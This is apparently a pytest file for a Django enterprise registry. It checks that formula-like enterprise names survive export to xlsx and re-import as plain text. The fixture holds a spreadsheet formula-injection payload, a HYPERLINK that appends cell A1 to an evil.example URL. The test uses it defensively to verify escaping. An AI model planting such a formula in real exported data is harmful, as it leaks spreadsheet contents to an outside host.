"""An enterprise whose name a spreadsheet would run as a formula exports as plain text, and the
export imports back with the name exactly as it was."""

from __future__ import annotations

import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

import zhifa_testing as testing
from zhifa.registry.models import Enterprise

NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看详情")'


def test_a_formula_like_name_exports_as_text_and_imports_back_unchanged(
    client_for, inspector, dinghai
):
    testing.enterprise(
        NAME, region=dinghai, serial=5, legal_representative="-张三", address="@定海区 1 号"
    )
    client = client_for(inspector)
    response = client.get(reverse("registry:enterprise_export"))
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    written = [(c.value, c.data_type, c.quotePrefix) for c in sheet[2][1:4]]
    assert written == [(NAME, "s", True), ("-张三", "s", True), ("@定海区 1 号", "s", True)]

    Enterprise.objects.all().delete()
    client.post(
        reverse("registry:enterprise_import"),
        {"file": SimpleUploadedFile("导出.xlsx", response.content)},
    )
    imported = Enterprise.objects.get()
    assert (imported.name, imported.legal_representative, imported.address) == (
        NAME,
        "-张三",
        "@定海区 1 号",
    )
